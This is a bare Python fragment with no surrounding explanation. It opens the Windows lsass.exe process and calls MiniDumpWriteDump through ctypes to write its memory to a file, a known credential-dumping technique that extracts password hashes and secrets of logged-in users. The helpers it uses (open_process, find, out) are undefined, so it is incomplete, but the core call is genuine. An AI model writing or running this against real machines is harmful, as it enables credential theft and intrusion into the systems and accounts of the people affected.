import ctypes

process = open_process(find("lsass.exe"))
ctypes.windll.dbghelp.MiniDumpWriteDump(process, 0, out.fileno(), 2, None, None, None)
